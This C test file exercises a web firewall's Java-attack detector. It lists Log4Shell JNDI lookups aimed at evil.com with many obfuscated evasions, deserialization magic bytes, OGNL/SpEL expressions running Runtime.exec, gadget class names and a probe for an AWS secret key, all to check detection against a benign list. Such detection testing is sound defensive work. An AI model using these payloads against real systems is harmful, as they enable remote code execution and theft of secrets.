/*
 * Java detector: Log4Shell lookups and their evasions (the evaluator),
 * deserialization magic, EL/OGNL, gadget and class names.
 */
#include "test.h"

#include "waf/waf_int.h"

/* jndi.c: 1 when the needle table is sorted by first byte. */
int rp__jndi_needles_sorted(void);

#define DETECT rp__waf_jndi
#define PREFIX "jndi"
#include "waf/detector_test.h"

static const tcase_t attacks[] = {
    { "${jndi:ldap://evil.com/a}", 90, "log4shell" },
    { "${jndi:rmi://evil.com:1099/a}", 90, "log4shell" },
    { "${jndi:dns://evil.com/a}", 90, "log4shell" },
    { "Mozilla/5.0 ${jndi:ldap://evil.com/a}", 90, "log4shell" },
    { "${JNDI:LDAP://evil.com/a}", 90, "log4shell" },
    { "${${lower:j}ndi:ldap://evil.com/a}", 90, "log4shell" },
    { "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://evil.com/a}", 90, "log4shell" },
    { "${${upper:j}ndi:ldap://evil.com/a}", 90, "log4shell" },
    { "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/a}", 90, "log4shell" },
    { "${${env:FOO:-j}ndi:ldap://evil.com/a}", 90, "log4shell" },
    { "${${sys:x:-j}${env:y:-n}di:ldap://evil.com/a}", 90, "log4shell" },
    { "${${date:'j'}${date:'n'}di:ldap://evil.com/a}", 90, "log4shell" },
    { "$${env:something:-${env:something:-$}{jndi:ldap://evil.com/webshell}}}", 90, "log4shell" },
    { "${${::-${::-j}}ndi:ldap://evil.com/a}", 90, "log4shell" },
    { "${jndi:${lower:l}${lower:d}a${lower:p}://evil.com/a}", 90, "log4shell" },
    { "$&lbrace;jndi:ldap://evil.com/a}", 80, "protocol" },
    { "jndi:ldap://evil.com/a", 60, NULL },
    { "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.com/a}", 90, "log4shell" },
    { "${${env:A:-x}${env:B:-y}}", 60, "nested" },
    { "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 80, "serialization" },
    { "KztAAU", 80, "serialization" },
    { "aced0005737200116a6176612e7574696c2e486173684d6170", 80, "serialization" },
    { "${T(java.lang.Runtime).getRuntime().exec('id')}", 90, NULL },
    { "#{T(java.lang.Runtime).getRuntime().exec('id')}", 90, NULL },
    { "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", 90, NULL },
    { "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", 90, NULL },
    { "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 90, NULL },
    { "''.getClass().forName('java.lang.Runtime')", 85, NULL },
    { "new java.lang.ProcessBuilder({'id'}).start()", 90, NULL },
    { "java.lang.Runtime", 70, NULL },
    { "java.lang.ProcessBuilder", 70, NULL },
    { "java.Runtime", 70, NULL },
    { "java.evil.runtime", 70, NULL },
    { "ProcessBuilder.evil.invokertransformer", 85, "gadget" },
    { "runtime.clonetransformer", 85, "gadget" },
    { "org.apache.commons.collections.functors.InvokerTransformer", 55, NULL },
    { "com.opensymphony.xwork2", 55, "class name" },
    { "java.io.FileOutputStream", 55, "class name" },
    { "javax.script.ScriptEngineManager", 80, NULL },
    { "shell.jsp", 55, "JSP" },
    { "a.JSPX..", 55, "JSP" },
    { "shell. jsp ", 55, "JSP" },
    { "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://x/y.xml')", 80, NULL },
};

static const char *const benign[] = {
    "Hello ${name}, your order is ready",
    "${price}",
    "Total: $12.50 (incl. VAT)",
    "costs $5 {approx}",
    "I installed the Java runtime yesterday",
    "Java is a programming language; the runtime is the JVM",
    "See docs.oracle.com/javase/tutorial",
    "path=/usr/lib/jvm/java-17/lib",
    "javascript:void(0)",
    "The JNDI API is documented online",
    "rO0 is not a word",
    "trO0ABxyz",
    "placed 3.5 on the ace",
    "faced0005",
    "abcdefghij0123456789",
    "{\"a\": 1, \"b\": [1, 2, 3]}",
    "user.name@example.com",
    "com.example.app",
    "org.example.Main",
    "io.github.project",
    "Thanks! See you at 10:00 #meeting",
    "${HOME}/bin:${PATH}",
    "The Runtime of the movie is 2h",
    "ProcessBuilder docs are at example.com",
    "my.java.project",
    "a $ b { c } d",
    "$$$ {{{ }}}",
    "x=1&y=2",
    "Price ${amount} due on ${date}",
    "www.java.com",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sig",
    "https://example.com/index.jsp",
    "jsp",
    "my.jspfile.txt",
    "report.pdf",
};

TEST(needles_sorted)
{
    CHECK(rp__jndi_needles_sorted());
}

TEST(attacks)
{
    run_attacks(attacks, RP_ARRAY_SIZE(attacks));
}

TEST(benign)
{
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_QUERY);
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_HEADER);
}

TEST(lookups_alone_are_reported)
{
    /* exfiltration probes: seen, not blocked */
    int sc = score("${env:AWS_SECRET_ACCESS_KEY}");
    CHECK(sc > 0 && sc < BLOCK);
    sc = score("${sys:java.version}");
    CHECK(sc > 0 && sc < BLOCK);
}

TEST(span_and_evidence)
{
    rp__waf_match_t m;
    const char *s = "abc rO0ABXNy def";
    CHECK(det(s, strlen(s), RP_WAF_SRC_QUERY, 0, &m) >= 80);
    CHECK(m.off == 4 && m.len == 5);
    /* the raw stream magic (NUL bytes inside) */
    const char raw[] = "xx\xac\xed\x00\x05sr\x00\x11java.util.HashMap";
    CHECK(det(raw, sizeof(raw) - 1, RP_WAF_SRC_BODY, 0, &m) >= 90);
    CHECK(m.off == 2 && m.len == 4);
}

TEST(flags)
{
    rp__waf_match_t m;
    const char *s = "${jndi:ldap://x/a}";
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_NUMBER, &m) == 0);
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_KEY, &m) >= 90);
    CHECK(det(NULL, 0, RP_WAF_SRC_BODY, 0, &m) == 0);
    CHECK(det(s, 3, RP_WAF_SRC_BODY, 0, &m) == 0);
}

TEST(deep_nesting)
{
    static char buf[8192];
    size_t n = 0;
    for (int i = 0; i < 1000; i++) {
        memcpy(buf + n, "${", 2);
        n += 2;
    }
    memcpy(buf + n, "jndi:ldap://x/a", 15);
    n += 15;
    for (int i = 0; i < 1000; i++)
        buf[n++] = '}';
    rp__waf_match_t m;
    /* bounded depth, still an answer (jndi: with a protocol next to '{') */
    CHECK(det(buf, n, RP_WAF_SRC_BODY, 0, &m) >= 80);
}

TEST(pathological)
{
    run_pathological("${");
    run_pathological("${a:-");
    run_pathological("${lower:");
    run_pathological("}");
    run_pathological("java.");
    (void)score("x");
}

int main(void)
{
    RUN(needles_sorted);
    RUN(attacks);
    RUN(benign);
    RUN(lookups_alone_are_reported);
    RUN(span_and_evidence);
    RUN(flags);
    RUN(deep_nesting);
    RUN(pathological);
    TEST_MAIN_END();
}
